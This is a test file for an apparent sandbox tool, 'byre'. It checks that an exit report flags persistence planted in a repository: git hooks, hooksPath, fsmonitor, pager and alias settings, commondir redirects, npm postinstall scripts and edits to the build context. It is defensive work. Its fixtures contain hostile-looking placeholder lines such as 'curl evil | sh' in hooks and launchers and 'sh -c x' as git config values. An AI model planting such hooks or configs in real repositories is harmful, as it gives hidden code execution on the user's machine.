import { execFileSync } from 'node:child_process';
import { mkdirSync, rmSync, symlinkSync } from 'node:fs';
import path from 'node:path';

import { describe, expect, it } from 'vitest';
import { useTempDir, putFile } from '../../test/support/temp.js';
import { gitOracle } from '../../test/support/tools.js';
import { exitReport, exitReportLines } from './report.js';
import {
  ENV_FILE_LIMIT,
  HOOK_ENTRY_LIMIT,
  SUBMODULE_LIMIT,
  takeSnapshot,
  type SnapshotScope,
} from './snapshot.js';
import { snapshotStore } from './store-snapshot.js';
import { selfEditReportLines } from './store-report.js';

let dir: string;
useTempDir('exit-report', (tmp) => {
  dir = tmp;
});

const put = (rel: string, content: string): string => putFile(dir, rel, content);

function repo(): SnapshotScope {
  const wt = path.join(dir, 'app');
  put('app/.git/HEAD', 'ref: refs/heads/main\n');
  mkdirSync(path.join(wt, '.git/objects'), { recursive: true });
  mkdirSync(path.join(wt, '.git/refs'), { recursive: true });
  put('app/.git/config', '[core]\n\tbare = false\n');
  put('app/.git/hooks/pre-commit.sample', '#!/bin/sh\n');
  put('app/.env', 'A=1\n');
  put('app/src/main.c', '');
  return { worktreeDir: wt, commonGitDir: path.join(wt, '.git'), roots: [wt] };
}

const diff = (scope: SnapshotScope, change: () => void): string[] => {
  const before = takeSnapshot(scope);
  change();
  return exitReportLines(
    exitReport({
      before,
      after: takeSnapshot(scope, [before.configs]),
      checkedOutThisSession: false,
    }),
  );
};

describe('takeSnapshot and the exit report, on a real tree', () => {
  it('an untouched tree reports nothing', () => {
    expect(diff(repo(), () => undefined)).toEqual([]);
  });

  it('a hook written and core.hooksPath set are reported; samples and ordinary keys are not', () => {
    const scope = repo();
    const lines = diff(scope, () => {
      put('app/.git/hooks/pre-commit', '#!/bin/sh\ncurl x | sh\n');
      put('app/.git/hooks/post-merge.sample', 'changed sample');
      put(
        'app/.git/config',
        '[core]\n\tbare = false\n\thooksPath = .githooks\n[user]\n\tname = x\n',
      );
      put('app/.githooks/pre-push', '#!/bin/sh\n');
    });
    expect(lines).toContain('  git config .git/config: core.hookspath = ".githooks" (added)');
    expect(lines).toContain('  hook added: .git/hooks/pre-commit');
    expect(lines).toContain('  hook added: .githooks/pre-push');
    expect(lines.join('\n')).not.toMatch(/sample|user\.name/);
  });

  it('.env files anywhere in the tree, but not under .git or node_modules', () => {
    const scope = repo();
    const lines = diff(scope, () => {
      put('app/.env', 'A=2\n');
      put('app/web/api/.envrc', 'export X=1\n');
      put('app/node_modules/x/.env', 'B=1\n');
      put('app/.git/.env', 'B=1\n');
    });
    expect(lines.filter((l) => l.startsWith('  '))).toEqual([
      '  .env file changed: .env',
      '  .env file added: web/api/.envrc',
    ]);
  });

  it('follows an include inside the project, not one outside it', () => {
    const scope = repo();
    put('outside.cfg', '[core]\n\tpager = outside\n');
    put('app/.git/config', `[include]\n\tpath = ../extra.cfg\n\tpath = ${dir}/outside.cfg\n`);
    put('app/extra.cfg', '[core]\n\tpager = less\n');
    const lines = diff(scope, () => {
      put('app/extra.cfg', '[core]\n\tpager = sh -c x\n');
      put('outside.cfg', '[core]\n\tpager = changed\n');
    });
    expect(lines).toContain('  git config extra.cfg: core.pager = "sh -c x" (added)');
    expect(lines.join('\n')).not.toContain('"changed"');
  });

  it('reads every worktree’s config.worktree', () => {
    const scope = repo();
    mkdirSync(path.join(dir, 'app/.git/worktrees/feat'), { recursive: true });
    const lines = diff(scope, () => {
      put('app/.git/worktrees/feat/config.worktree', '[core]\n\tfsmonitor = ./x\n');
    });
    expect(lines).toContain(
      '  git config .git/worktrees/feat/config.worktree: core.fsmonitor = "./x" (added)',
    );
  });

  it('reads each submodule’s own git dir: its config and hooks, nested ones and names with slashes', () => {
    const scope = repo();
    put('app/.git/modules/lib/x/HEAD', 'ref: refs/heads/main\n');
    put('app/.git/modules/lib/x/config', '[core]\n\tbare = false\n');
    put('app/.git/modules/lib/x/modules/deep/HEAD', 'ref: refs/heads/main\n');
    const lines = diff(scope, () => {
      put('app/.git/modules/lib/x/config', '[core]\n\tbare = false\n\tfsmonitor = ./m\n');
      put('app/.git/modules/lib/x/hooks/post-checkout', '#!/bin/sh\n');
      put('app/.git/modules/lib/x/modules/deep/hooks/pre-commit', '#!/bin/sh\n');
      put('app/.git/modules/lib/x/objects/hooks/not-a-hook', '');
    });
    expect(lines).toContain(
      '  git config .git/modules/lib/x/config: core.fsmonitor = "./m" (added)',
    );
    expect(lines).toContain('  hook added: .git/modules/lib/x/hooks/post-checkout');
    expect(lines).toContain('  hook added: .git/modules/lib/x/modules/deep/hooks/pre-commit');
    expect(lines.join('\n')).not.toContain('not-a-hook');
  });

  it('a relative hooksPath resolves against the checkout git runs the hooks in', () => {
    const scope = { ...repo(), roots: [path.join(dir, 'app'), path.join(dir, 'feat')] };
    // A submodule checked out at app/lib: git wrote core.worktree relative to its git dir.
    put('app/.git/modules/lib/HEAD', 'ref: refs/heads/main\n');
    put('app/.git/modules/lib/config', '[core]\n\tworktree = ../../../lib\n');
    // A linked worktree at feat/, named by its admin dir's gitdir file.
    put('app/.git/worktrees/feat/HEAD', 'ref: refs/heads/feat\n');
    put('app/.git/worktrees/feat/gitdir', `${path.join(dir, 'feat/.git')}\n`);
    put('app/.git/worktrees/feat/config.worktree', '[core]\n\thooksPath = .feathooks\n');
    put('app/.githooks/pre-commit', '#!/bin/sh\n');
    put('app/.feathooks/pre-commit', '#!/bin/sh\n');
    const lines = diff(scope, () => {
      put(
        'app/.git/modules/lib/config',
        '[core]\n\tworktree = ../../../lib\n\thooksPath = .githooks\n',
      );
      put('app/lib/.githooks/post-checkout', '#!/bin/sh\n');
      put('feat/.feathooks/pre-push', '#!/bin/sh\n');
      // The session's own checkout holds same-named directories that are not these hooks.
      put('app/.githooks/post-checkout', '#!/bin/sh\n');
      put('app/.feathooks/pre-push', '#!/bin/sh\n');
    });
    expect(lines).toContain('  hook added: lib/.githooks/post-checkout');
    expect(lines).toContain(`  hook added: ${path.join(dir, 'feat/.feathooks/pre-push')}`);
    expect(lines.filter((l) => l.startsWith('  hook'))).toHaveLength(2);
  });

  it('a relative hooksPath in the shared config resolves in every checkout; config.worktree in the common dir is the main one’s', () => {
    // This session runs in the linked worktree feat/; the main checkout is app/.
    const feat = path.join(dir, 'feat');
    put('app/.git/worktrees/feat/HEAD', 'ref: refs/heads/feat\n');
    put('app/.git/worktrees/feat/commondir', '../..\n');
    put('app/.git/worktrees/feat/gitdir', `${path.join(feat, '.git')}\n`);
    put('feat/.git', `gitdir: ${path.join(dir, 'app/.git/worktrees/feat')}\n`);
    const scope: SnapshotScope = {
      worktreeDir: feat,
      commonGitDir: path.join(dir, 'app/.git'),
      roots: [feat, path.join(dir, 'app'), path.join(dir, 'app/.git')],
    };
    put('app/.git/config', '[core]\n\thooksPath = .shared\n');
    put('app/.git/config.worktree', '[core]\n\thooksPath = .mainonly\n');
    const lines = diff(scope, () => {
      put('app/.shared/pre-commit', '#!/bin/sh\n');
      put('feat/.shared/pre-push', '#!/bin/sh\n');
      put('app/.mainonly/post-merge', '#!/bin/sh\n');
      // The common dir's config.worktree does not apply in feat/.
      put('feat/.mainonly/post-merge', '#!/bin/sh\n');
    });
    expect(lines.filter((l) => l.startsWith('  hook'))).toEqual([
      '  hook added: .shared/pre-push',
      `  hook added: ${path.join(dir, 'app/.mainonly/post-merge')}`,
      `  hook added: ${path.join(dir, 'app/.shared/pre-commit')}`,
    ]);
  });

  it('a submodule config without core.worktree falls back to this session’s checkout', () => {
    const scope = repo();
    put('app/.git/modules/lib/HEAD', 'ref: refs/heads/main\n');
    put('app/.git/modules/lib/config', '[core]\n\thooksPath = .githooks\n');
    const lines = diff(scope, () => put('app/.githooks/pre-commit', '#!/bin/sh\n'));
    expect(lines).toContain('  hook added: .githooks/pre-commit');
  });

  it('a linked modules directory is not followed', () => {
    const scope = repo();
    put('elsewhere/m/HEAD', 'ref: refs/heads/main\n');
    symlinkSync(path.join(dir, 'elsewhere'), path.join(dir, 'app/.git/modules'));
    const lines = diff(scope, () => put('elsewhere/m/hooks/pre-commit', '#!/bin/sh\n'));
    expect(lines).toEqual([
      'notice: could not check: what git reads through .git/modules (a symbolic link; byre does not follow it)',
    ]);
  });

  it(`bounds submodule git dirs at ${SUBMODULE_LIMIT}, saying so, and reports none of the rest as deleted`, () => {
    const scope = repo();
    for (let i = 0; i <= SUBMODULE_LIMIT; i++) put(`app/.git/modules/m${i}/HEAD`, 'x\n');
    const snap = takeSnapshot(scope);
    expect(snap.configs.complete).toBe(false);
    expect(snap.hooks.complete).toBe(false);
    expect(snap.unchecked).toEqual([`submodule git dirs beyond the first ${SUBMODULE_LIMIT}`]);
  });

  it('records planted links and FIFOs by kind, never following or opening them', () => {
    const scope = repo();
    put('secret', 'TOKEN=1\n');
    const lines = diff(scope, () => {
      symlinkSync(path.join(dir, 'secret'), path.join(dir, 'app/.env.local'));
      execFileSync('mkfifo', [path.join(dir, 'app/.git/hooks/pre-commit')]);
      symlinkSync(path.join(dir, 'secret'), path.join(dir, 'app/.git/config.worktree'));
    });
    expect(lines).toContain(`  .env file added: .env.local (a symbolic link to ${dir}/secret)`);
    expect(lines).toContain('  hook added: .git/hooks/pre-commit (a FIFO)');
    expect(lines.join('\n')).toContain('could not check: git config .git/config.worktree');
  });

  it('task files: a Makefile and npm scripts are reported, package.json dependencies are not', () => {
    const scope = repo();
    put('app/Makefile', 'all:\n\tcc main.c\n');
    put('app/package.json', '{"scripts":{"test":"vitest","build":"tsc"},"dependencies":{}}');
    put('app/.vscode/settings.json', '{}');
    expect(
      diff(scope, () =>
        put(
          'app/package.json',
          '{\n  "dependencies": {"left-pad": "1"},\n  "scripts": {"build": "tsc", "test": "vitest"}\n}',
        ),
      ),
    ).toEqual([]);
    const lines = diff(scope, () => {
      put('app/Makefile', 'all:\n\tcurl x | sh\n');
      put('app/package.json', '{"scripts":{"test":"vitest","build":"tsc","postinstall":"sh x"}}');
      put('app/.vscode/tasks.json', '{"tasks":[]}');
      put('app/.pre-commit-config.yaml', 'repos: []\n');
      put('app/sub/Makefile', 'not at the root\n');
    });
    expect(lines.filter((l) => l.startsWith('  task file'))).toEqual([
      '  task file added: .pre-commit-config.yaml',
      '  task file added: .vscode/tasks.json',
      '  task file changed: Makefile',
      '  task file changed: package.json "scripts"',
    ]);
    expect(lines.at(-1)).toMatch(/make, npm, your editor and pre-commit run task files/);
  });

  it('task files: a package.json that is not JSON is compared whole; a linked .vscode is named, not entered', () => {
    const scope = repo();
    put('app/package.json', '{ not json');
    put('app/.vscode/tasks.json', '{}');
    put('elsewhere/tasks.json', '{"tasks":["evil"]}');
    const lines = diff(scope, () => {
      put('app/package.json', '{ not json either');
      rmSync(path.join(dir, 'app/.vscode'), { recursive: true });
      symlinkSync(path.join(dir, 'elsewhere'), path.join(dir, 'app/.vscode'));
    });
    expect(lines.filter((l) => l.startsWith('  task file'))).toEqual([
      `  task file added: .vscode (a symbolic link to ${dir}/elsewhere)`,
      '  task file deleted: .vscode/tasks.json',
      '  task file changed: package.json "scripts"',
    ]);
  });

  it('task files: a FIFO in place of one is named, never opened', () => {
    const scope = repo();
    const lines = diff(scope, () => {
      execFileSync('mkfifo', [path.join(dir, 'app/package.json')]);
      execFileSync('mkfifo', [path.join(dir, 'app/Makefile')]);
    });
    expect(lines.filter((l) => l.startsWith('  task file'))).toEqual([
      '  task file added: Makefile (a FIFO)',
      '  task file added: package.json "scripts" (a FIFO)',
    ]);
  });

  it('a config byre cannot parse is named, not guessed at', () => {
    const scope = repo();
    const lines = diff(scope, () => put('app/.git/config', '[core\n'));
    expect(lines).toEqual([
      'notice: could not check: git config .git/config, changed into something byre cannot read (line 1: a malformed section header)',
    ]);
  });

  it(`bounds hooks at ${HOOK_ENTRY_LIMIT} and .env files at ${ENV_FILE_LIMIT}, saying so`, () => {
    const scope = repo();
    for (let i = 0; i <= HOOK_ENTRY_LIMIT; i++) put(`app/.git/hooks/h${i}`, '');
    for (let i = 0; i <= ENV_FILE_LIMIT; i++) put(`app/d${i}/.env`, '');
    const snap = takeSnapshot(scope);
    expect(snap.hooks.complete).toBe(false);
    expect(snap.envFiles.complete).toBe(false);
    expect(snap.unchecked).toEqual([
      `hooks beyond the first ${HOOK_ENTRY_LIMIT}`,
      `.env files beyond the first ${ENV_FILE_LIMIT}`,
    ]);
  });

  it('stops at the time budget and says what it did not check', () => {
    const scope = repo();
    let t = 0;
    const snap = takeSnapshot({ ...scope, deadline: 1, now: () => t++ });
    expect(snap.unchecked.join('\n')).toMatch(/budget ran out/);
  });

  it('outside git, only .env files', () => {
    put('plain/.env', 'A=1\n');
    const scope = { worktreeDir: path.join(dir, 'plain'), commonGitDir: null, roots: [] };
    expect(diff(scope, () => put('plain/.env', 'A=2\n'))).toContain('  .env file changed: .env');
  });
});

/** What the host's git takes as `key` in `cwd`, asked of git itself (no system or global config). */
const gitSays = (cwd: string, key: string): string =>
  gitOracle(cwd, dir, ['config', '--get', key]) ?? '';

describe('the exit report reads git as git does (issue 27)', () => {
  it('a commondir redirect under .git/logs: the pointer, and the config and hook git reads through it', () => {
    const scope = repo();
    const app = path.join(dir, 'app');
    const lines = diff(scope, () => {
      put('app/.git/commondir', 'logs/c\n');
      put('app/.git/logs/c/config', '[core]\n\tfsmonitor = ./evil\n');
      put('app/.git/logs/c/hooks/pre-commit', '#!/bin/sh\nexit 0\n');
      symlinkSync('../../objects', path.join(app, '.git/logs/c/objects'));
      symlinkSync('../../refs', path.join(app, '.git/logs/c/refs'));
    });
    // git itself now takes the planted config.
    expect(gitSays(app, 'core.fsmonitor')).toBe('./evil');
    expect(lines).toContain(
      '  git pointer added: .git/commondir = "logs/c" (git’s common dir: .git/logs/c)',
    );
    expect(lines).toContain('  git config .git/logs/c/config: core.fsmonitor = "./evil" (added)');
    expect(lines).toContain('  hook added: .git/logs/c/hooks/pre-commit');
  });

  it('a .git swapped for a link to another repository is reported as the link; nothing is read through it', () => {
    const scope = repo();
    put('other/.git/HEAD', 'ref: refs/heads/main\n');
    put('other/.git/config', '[core]\n\tfsmonitor = ./theirs\n');
    put('other/.git/hooks/pre-commit', '#!/bin/sh\n');
    put('other/.git/hooks/post-merge', '#!/bin/sh\n');
    const lines = diff(scope, () => {
      rmSync(path.join(dir, 'app/.git'), { recursive: true });
      symlinkSync(path.join(dir, 'other/.git'), path.join(dir, 'app/.git'));
    });
    expect(lines).toContain(`  git pointer changed: .git (a symbolic link to ${dir}/other/.git)`);
    expect(lines.join('\n')).not.toMatch(/hook (added|changed|deleted)|theirs/);
  });
});

describe('the exit report follows every pointer git follows, inside the project', () => {
  it('a project outside git that the box turned into a repository: the new .git, its config and hooks', () => {
    put('plain/.env', 'A=1\n');
    const wt = path.join(dir, 'plain');
    const scope: SnapshotScope = { worktreeDir: wt, commonGitDir: null, roots: [wt] };
    const lines = diff(scope, () => {
      put('plain/.git/HEAD', 'ref: refs/heads/main\n');
      mkdirSync(path.join(wt, '.git/objects'));
      mkdirSync(path.join(wt, '.git/refs'));
      put('plain/.git/config', '[core]\n\tpager = sh -c x\n');
      put('plain/.git/hooks/post-checkout', '#!/bin/sh\n');
    });
    expect(gitSays(wt, 'core.pager')).toBe('sh -c x');
    expect(lines.filter((l) => l.startsWith('  '))).toEqual([
      '  git pointer added: .git (a directory)',
      '  git config .git/config: core.pager = "sh -c x" (added)',
      '  hook added: .git/hooks/post-checkout',
    ]);
  });

  it('the checkout itself made a repository (git takes it when .git is gone): named, and read', () => {
    const scope = repo();
    const app = path.join(dir, 'app');
    const lines = diff(scope, () => {
      rmSync(path.join(app, '.git'), { recursive: true });
      put('app/HEAD', 'ref: refs/heads/main\n');
      mkdirSync(path.join(app, 'objects'));
      mkdirSync(path.join(app, 'refs'));
      put('app/config', '[alias]\n\tst = !sh -c x\n');
      put('app/hooks/pre-push', '#!/bin/sh\n');
    });
    expect(gitSays(app, 'alias.st')).toBe('!sh -c x');
    expect(lines).toContain(
      '  git pointer added: HEAD (git takes the checkout itself for a repository)',
    );
    expect(lines).toContain('  git pointer deleted: .git');
    expect(lines).toContain('  git config config: alias.st = "!sh -c x" (added)');
    expect(lines).toContain('  hook added: hooks/pre-push');
  });

  it('from a linked worktree: the main checkout’s commondir and this worktree’s pointers', () => {
    const feat = path.join(dir, 'feat');
    const common = path.join(dir, 'app/.git');
    repo();
    put('app/.git/worktrees/feat/HEAD', 'ref: refs/heads/feat\n');
    put('app/.git/worktrees/feat/commondir', '../..\n');
    put('app/.git/worktrees/feat/gitdir', `${path.join(feat, '.git')}\n`);
    put('feat/.git', `gitdir: ${common}/worktrees/feat\n`);
    const scope: SnapshotScope = {
      worktreeDir: feat,
      commonGitDir: common,
      roots: [feat, path.join(dir, 'app'), common],
    };
    expect(diff(scope, () => undefined)).toEqual([]);
    const lines = diff(scope, () => {
      // The main checkout's git now reads its config and hooks from logs/c.
      put('app/.git/commondir', 'logs/c\n');
      put('app/.git/logs/c/config', '[core]\n\tfsmonitor = ./m\n');
      put('app/.git/logs/c/hooks/pre-commit', '#!/bin/sh\n');
      // This worktree's git dir now names another common dir.
      put('app/.git/worktrees/feat/commondir', '../../logs/c\n');
    });
    expect(lines.filter((l) => l.includes('pointer') || l.includes('logs/c/'))).toEqual([
      // logs/c has no objects or refs: git in the main checkout no longer takes its .git.
      `  git pointer changed: ${common} (a directory git does not take for a repository)`,
      `  git pointer added: ${common}/commondir = "logs/c" (git’s common dir: ${common}/logs/c)`,
      `  git pointer changed: ${common}/worktrees/feat/commondir = "../../logs/c" (git’s common dir: ${common}/logs/c)`,
      `  git config ${common}/logs/c/config: core.fsmonitor = "./m" (added)`,
      `  hook added: ${common}/logs/c/hooks/pre-commit`,
    ]);
  });

  it('a worktree added or removed as git does it is not news; one whose commondir leads elsewhere is', () => {
    const scope = repo();
    const admin = (name: string, common: string): void => {
      put(`app/.git/worktrees/${name}/HEAD`, 'ref: refs/heads/x\n');
      put(`app/.git/worktrees/${name}/commondir`, common);
      put(`app/.git/worktrees/${name}/gitdir`, `${dir}/${name}/.git\n`);
    };
    admin('old', '../..\n');
    expect(
      diff(scope, () => {
        admin('new', '../..\n');
        rmSync(path.join(dir, 'app/.git/worktrees/old'), { recursive: true });
      }),
    ).toEqual([]);
    const lines = diff(scope, () => admin('forged', '../../logs\n'));
    expect(lines.filter((l) => l.startsWith('  '))).toEqual([
      '  git pointer added: .git/worktrees/forged/commondir = "../../logs" (git’s common dir: .git/logs)',
    ]);
  });

  it('a hook or a config that is a link inside the project is read through, as git runs and reads it', () => {
    const scope = repo();
    const app = path.join(dir, 'app');
    put('app/scripts/pre-commit', '#!/bin/sh\nexit 0\n');
    symlinkSync('../../scripts/pre-commit', path.join(app, '.git/hooks/pre-commit'));
    put('app/cfg/real', '[core]\n\tbare = false\n');
    rmSync(path.join(app, '.git/config'));
    symlinkSync('../cfg/real', path.join(app, '.git/config'));
    const lines = diff(scope, () => {
      put('app/scripts/pre-commit', '#!/bin/sh\ncurl x | sh\n');
      put('app/cfg/real', '[core]\n\tbare = false\n\teditor = sh -c x\n');
    });
    expect(gitSays(app, 'core.editor')).toBe('sh -c x');
    expect(lines).toContain(
      '  hook changed: .git/hooks/pre-commit (a symbolic link to ../../scripts/pre-commit)',
    );
    expect(lines).toContain('  git config .git/config: core.editor = "sh -c x" (added)');
  });

  it('a hooks directory or config linked out of the project is named, not read', () => {
    const scope = repo();
    const app = path.join(dir, 'app');
    put('outside/hooks/pre-commit', '#!/bin/sh\n');
    put('outside/config', '[core]\n\tpager = theirs\n');
    const lines = diff(scope, () => {
      rmSync(path.join(app, '.git/hooks'), { recursive: true });
      symlinkSync(path.join(dir, 'outside/hooks'), path.join(app, '.git/hooks'));
      rmSync(path.join(app, '.git/config'));
      symlinkSync(path.join(dir, 'outside/config'), path.join(app, '.git/config'));
    });
    expect(lines).toContain(
      `  hook added: .git/hooks (it leads outside the project, to ${dir}/outside/hooks; byre does not follow it)`,
    );
    expect(lines.join('\n')).toContain(
      `git config .git/config, changed into something byre cannot read (it leads outside the project, to ${dir}/outside/config)`,
    );
    expect(lines.join('\n')).not.toMatch(/theirs|pre-commit$/m);
  });
});

describe('snapshotStore', () => {
  it('reads the store without following links; launch records only by kind, the build context by content', () => {
    const store = path.join(dir, 'store');
    put('store/byre.config', 'agent = "claude"\n');
    put('store/path', '/src/app\n');
    put('store/launches/abc.toml', 'record = 1\n');
    put('store/context/Dockerfile.generated', 'FROM x\n');
    const before = snapshotStore(store);
    expect(Object.keys(before.files).sort()).toEqual([
      'byre.config',
      'context/Dockerfile.generated',
      'launches',
      'path',
    ]);
    put('store/launches/def.toml', 'record = 1\n');
    put('store/byre.config', 'agent = "claude"\nrun_args = ["-e", "X=1"]\n');
    put('store/notes/new.txt', 'hi');
    const lines = selfEditReportLines(before, snapshotStore(store));
    expect(lines).toEqual([
      'self-edit: byre.config changed (it applies at the next develop):',
      '  @@ -1,1 +1,2 @@',
      '   agent = "claude"',
      '  +run_args = ["-e", "X=1"]',
      'self-edit: other files in the project’s store:',
      '  added: notes/new.txt',
    ]);
  });

  it('reports an edit to the staged build context (issue 27): the launcher and the Dockerfile', () => {
    const store = path.join(dir, 'store');
    put('store/byre.config', 'agent = "claude"\n');
    put('store/context/Dockerfile.generated', 'FROM x\n');
    put('store/context/byre-launch', '#!/bin/sh\nexec "$@"\n');
    const before = snapshotStore(store);
    put('store/context/byre-launch', '#!/bin/sh\ncurl evil | sh\nexec "$@"\n');
    put('store/context/Dockerfile.generated', 'FROM x\nRUN evil\n');
    expect(selfEditReportLines(before, snapshotStore(store))).toEqual([
      'self-edit: other files in the project’s store:',
      '  changed: context/Dockerfile.generated',
      '  changed: context/byre-launch',
      'self-edit: context/ is the build context byre staged; byre stages a fresh one before every build and never builds from this copy. To build by hand, write a fresh one: byre dockerfile --context <new directory>',
    ]);
  });

  it('reports an edit to the staged wiring context, with the same line (adr/0073)', () => {
    const store = path.join(dir, 'store');
    put('store/byre.config', 'agent = "claude"\n');
    put('store/wiring-context/wiring/mcp.json', '{}\n');
    const before = snapshotStore(store);
    put('store/wiring-context/wiring/mcp.json', '{"mcpServers":{"evil":{}}}\n');
    expect(selfEditReportLines(before, snapshotStore(store))).toEqual([
      'self-edit: other files in the project’s store:',
      '  changed: wiring-context/wiring/mcp.json',
      'self-edit: wiring-context/ is the wiring build context byre staged; byre stages a fresh one before every build and never builds from this copy. To build by hand, write a fresh one: byre dockerfile --context <new directory>',
    ]);
  });
});
